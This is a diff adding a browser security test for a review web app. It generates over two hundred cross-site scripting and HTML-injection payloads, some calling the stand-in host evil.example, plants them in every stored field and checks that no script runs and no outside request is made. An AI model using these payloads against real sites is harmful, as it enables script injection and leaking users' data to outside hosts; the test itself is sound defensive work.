@@ -1,0 +1,110 @@
+import type { Browser } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { type FakeReviewApi, startFakeReviewApi } from "../../support/fake-review-api.ts";
+import { sampleId } from "../../support/sample-items.ts";
+import { openBrowser, openPage } from "./open-browser.ts";
+
+const RUN = "globalThis.pwned=1";
+const TAGS = ["img src=x", "svg", "body", "iframe srcdoc=x", "video src=x", "audio src=x", "details open", "input autofocus", "marquee", "object data=x"];
+const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter", "onstart", "onbegin", "onscroll"];
+const SHELLS = [
+  `<script>${RUN}</script>`,
+  `"><script>${RUN}</script>`,
+  `'-${RUN}-'`,
+  `javascript:${RUN}`,
+  `\${${RUN}}`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<math><mtext></mtext><script>${RUN}</script></math>`,
+  `<style>@import url(http://evil.example/x.css)</style>`,
+  `<link rel=stylesheet href=http://evil.example/x.css>`,
+  `<img src=http://evil.example/pixel.png>`,
+  `<base href=http://evil.example/>`,
+  `<form action=http://evil.example><button>x</button></form>`,
+  `<meta http-equiv=refresh content="0;url=http://evil.example">`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `]]><script>${RUN}</script>`,
+  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
+  `<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>`,
+  `=HYPERLINK("http://evil.example")`,
+];
+
+/** 200 and more in the manner of the OWASP and html5sec lists, made here. */
+const payloads = [
+  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${RUN}>`)),
+  ...TAGS.flatMap((tag) => EVENTS.slice(0, 8).map((event) => `"'><${tag.toUpperCase()}/${event}="${RUN}"//`)),
+  ...SHELLS,
+];
+
+let browser: Browser;
+let api: FakeReviewApi;
+beforeAll(async () => {
+  browser = await openBrowser();
+  api = await startFakeReviewApi();
+});
+afterAll(async () => {
+  await browser.close();
+  await api.close();
+});
+
+const PLANTED = 50;
+
+const plant = (from: number): void => {
+  const stored = api.samples.get(sampleId(2));
+  if (stored === undefined) throw new Error("the hostile sample is missing");
+  const { item, parsed } = stored;
+  const batch = payloads.slice(from, from + PLANTED);
+  const all = batch.join("\n");
+  const one = (index: number): string => batch[index % batch.length] ?? "";
+  item.summary.subject = all;
+  item.summary.sender = { name: all, address: one(1) };
+  item.summary.customer = all;
+  item.summary.firstReason = all;
+  item.review.comments = batch.map((text, index) => ({ at: item.createdAt, by: one(index + 3), text }));
+  item.caseId = "case-1";
+  parsed.parts = batch.map((name, index) => ({ ...(parsed.parts[0] ?? { id: "0" }), id: String(index), name }) as (typeof parsed.parts)[number]);
+  parsed.documents = parsed.documents.slice(0, 1).map((document) => ({ ...document, text: all, blocks: [] }));
+  for (const field of Object.values(item.extraction?.fields ?? {})) {
+    field.value = all;
+    field.raw = all;
+    field.provenance = { part: "0", page: null, start: 0, end: all.length, box: null };
+    field.candidates = batch.slice(0, 5).map((text) => ({ value: text, raw: text, confidence: 0.5, source: "entity", provenance: null }));
+  }
+  if (item.classification !== null) item.classification.explanation = batch.slice(0, 12).map((term) => ({ term, weight: 0.1, spans: [] }));
+  if (item.decision !== null) item.decision.reasons = batch.slice(0, 5).map((message, index) => ({ code: `odd_${index}`, message, field: null, data: {}, blocks: true }));
+};
+
+describe("strings an outsider controls", () => {
+  it("number at least two hundred", () => {
+    expect(new Set(payloads).size).toBeGreaterThanOrEqual(200);
+  });
+
+  it.each([0, 50, 100, 150])("run nothing and ask nothing of the network in any place (payloads from %i)", async (from) => {
+    plant(from);
+    const { page, context, requests } = await openPage(browser);
+    const dialogs: string[] = [];
+    page.on("dialog", (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+
+    for (const hash of ["#/work", `#/item/${sampleId(2)}`]) {
+      await page.goto(`${api.url}/${hash}`);
+      await page.locator(hash === "#/work" ? "tr[data-row='0']" : "[data-field='address']").waitFor();
+      await page.waitForTimeout(300);
+    }
+    await page.locator(".ph-owner[data-mine]").waitFor();
+    await page.locator(".ph-category [aria-expanded]").click();
+    await page.locator("#field-senderName").focus();
+    await page.keyboard.press("F4");
+    await page.getByRole("listbox").waitFor();
+    await page.keyboard.press("Escape");
+    for (let round = 0; round < 10; round += 1) await page.mouse.move(200 + round * 90, 200 + round * 40);
+
+    expect(await page.evaluate(() => Reflect.get(globalThis, "pwned"))).toBeUndefined();
+    expect(dialogs).toEqual([]);
+    expect(requests.filter((url) => !url.startsWith(api.url))).toEqual([]);
+    await context.close();
+  });
+});
